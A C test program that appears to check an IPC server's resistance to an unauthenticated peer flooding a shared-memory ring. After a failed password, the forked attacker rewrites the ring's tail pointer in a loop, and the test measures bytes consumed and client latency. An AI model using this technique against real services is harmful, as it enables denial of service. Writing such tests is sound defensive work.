/*
 * full_ring: a peer with the wrong password that keeps its ring full without any work. The program measures the bytes that the victim takes
 * from the ring, and the wait of good clients.
 */
#include "ipc.h"

int main(void)
{
    char *memory, theirs[64];
    int pair[2], fds[2], ready[2];
    start_victim(1);
    double before = slowest_answer_ms(1);
    NEED(socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0);
    fds[0] = make_region(RING, &memory);
    fds[1] = pair[1];
    NEED(pipe(ready) == 0);
    attacker = fork();
    NEED(attacker >= 0);
    if (attacker == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        int peer = call_victim();
        if (send_rights(peer, greeting("PLAIN"), 64, fds, 2) != 0)
            send_all(peer, greeting("PLAIN"), 64);
        read_exactly(peer, theirs, sizeof theirs);
        static const char hello[] = "\x04\x0e\x05HELLO\x03" "bad\x03" "bad";
        send_all(peer, hello, sizeof hello - 1);
        /* Skip the ERROR. */
        skip_frame(peer);
        *switch_at(memory) = 64 + sizeof hello - 1;
        __atomic_store_n(switched(memory), 1, __ATOMIC_SEQ_CST);
        if (write(ready[1], "r", 1) != 1)
            _exit(1);
        for (;;) {
            for (int look = 0; look < 1000; look++)
                __atomic_store_n(tail(memory), __atomic_load_n(head(memory), __ATOMIC_ACQUIRE) + RING, __ATOMIC_RELEASE);
            send(peer, "", 1, MSG_NOSIGNAL | MSG_DONTWAIT);
        }
    }
    close(ready[1]);
    wait_for_attacker(ready[0]);
    double during = slowest_answer_ms(1);
    uint64_t taken = *head(memory);
    finish(during > LATE_MS || taken > 1 << 20, "full_ring: %.1f MiB taken, slowest answer %.1f ms, before %.1f", taken / 1048576.0,
           during, before);
}
